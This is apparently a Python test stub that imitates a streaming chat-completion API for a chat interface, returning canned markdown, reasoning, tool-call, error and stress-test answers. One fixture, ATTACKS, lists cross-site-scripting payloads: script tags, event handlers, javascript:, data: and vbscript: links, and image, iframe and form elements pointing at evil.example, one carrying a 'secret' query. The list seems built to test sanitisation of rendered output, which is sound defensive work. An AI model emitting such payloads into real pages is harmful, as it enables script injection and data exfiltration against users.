"""What the stub answers, by the first word of the prompt."""

import json
import math
import re
from collections.abc import Callable, Iterator
from typing import Any, TypeAlias

Piece: TypeAlias = dict[str, Any]

TIMINGS = {
    "queue_ms": 12.0,
    "prefill_ms": 640.0,
    "decode_ms": 4100.0,
    "prompt_tokens": 412,
    "cached_tokens": 256,
    "completion_tokens": 214,
}

MARKDOWN = """A **softmax** turns scores into probabilities: each is exponentiated and divided by the sum.

```python
import math

def softmax(scores: list[float]) -> list[float]:
    # The largest score is subtracted, so that nothing overflows.
    top = max(scores)
    exps = [math.exp(score - top) for score in scores]
    return [value / sum(exps) for value in exps]
```

It matters in three places:

1. In *attention*, over the keys that a query can see.
2. At the end, over the vocabulary.
3. In a mixture of experts, where `top_k` of them are chosen.

| temperature | effect |
| --- | --- |
| 0.2 | nearly always the likeliest token |
| 1.0 | as the model was trained |

See the [original paper](https://example.org/attention) for the details."""

ATTACKS = """<script>window.attacked = 1</script>
<img src=x onerror="window.attacked = 2">

[link](javascript:window.attacked=3) ![pixel](https://evil.example/collect?q=secret)
<a href="javascript:window.attacked=4">raw</a> <iframe src="https://evil.example/"></iframe>

<svg onload="window.attacked = 5"></svg> <style>body { display: none }</style>
<form action="https://evil.example/"><input name="key"></form>

[data](data:text/html,<script>window.attacked=6</script>) [x](<https://ok.io/" onclick="window.attacked=7>)

```html"><img src=x onerror=window.attacked=8>
<script>window.attacked = 9</script>
```

[vb](vbscript:window.attacked=10) <math><mtext><img src=x onerror=window.attacked=11></mtext></math>
"""


def words(text: str) -> list[str]:
    return re.findall(r"\n+|[ ]*[^\s]+|[ ]+", text)


def content(text: str, *, logprobs: bool = False) -> Iterator[Piece]:
    for number, word in enumerate(words(text)):
        piece: Piece = {"delta": {"content": word}}
        if logprobs:
            share = (0.98, 0.62, 0.31, 0.12, 0.91)[number % 5]
            others = [(word, share), (" perhaps", (1 - share) / 2), (" the", (1 - share) / 4), ("\n", 0.01)]
            top = [{"token": token, "logprob": math.log(p), "bytes": None} for token, p in others]
            piece["logprobs"] = {"content": [{**top[0], "top_logprobs": top}]}
        yield piece


def markdown(body: dict[str, Any]) -> Iterator[Piece]:
    text = "The moon, a pale coin." if body["model"].endswith("poet") else MARKDOWN
    return content(text, logprobs=bool(body.get("logprobs")))


def think(_body: dict[str, Any]) -> Iterator[Piece]:
    for word in words("The user asks for a prime above 20. 21 is 3 times 7, 22 is even, 23 is prime."):
        yield {"delta": {"reasoning_content": word}}
    yield from content("The answer is **23**.")


def tool(_body: dict[str, Any]) -> Iterator[Piece]:
    yield from content("Let me look that up.")
    call = {"index": 0, "id": "call_1", "type": "function", "function": {"name": "weather", "arguments": ""}}
    yield {"delta": {"tool_calls": [call]}}
    arguments = json.dumps({"city": "Zürich", "days": 3}, ensure_ascii=False)
    for start in range(0, len(arguments), 5):
        part = {"index": 0, "function": {"arguments": arguments[start : start + 5]}}
        yield {"delta": {"tool_calls": [part]}}


def broken(_body: dict[str, Any]) -> Iterator[Piece]:
    yield from content("This answer begins well")
    yield {
        "error": {
            "message": "The model is out of memory.",
            "type": "server_error",
            "param": None,
            "code": None,
        }
    }


def text_of(text: str) -> Callable[[dict[str, Any]], Iterator[Piece]]:
    return lambda _body: content(text)


ANSWERS: dict[str, Callable[[dict[str, Any]], Iterator[Piece]]] = {
    "markdown": markdown,
    "think": think,
    "tool": tool,
    "break": broken,
    "attack": text_of(ATTACKS),
    "quotes": text_of(">" * 6000),
    "items": text_of("- " * 3000),
    "emphasis": text_of("_a_" * 8000),
    "long": text_of("\n\n".join(f"Paragraph {number} of a long answer." for number in range(1, 80))),
    "rest": text_of(" And this is the rest of it."),
    "length": text_of("This answer was cut off in the"),
}
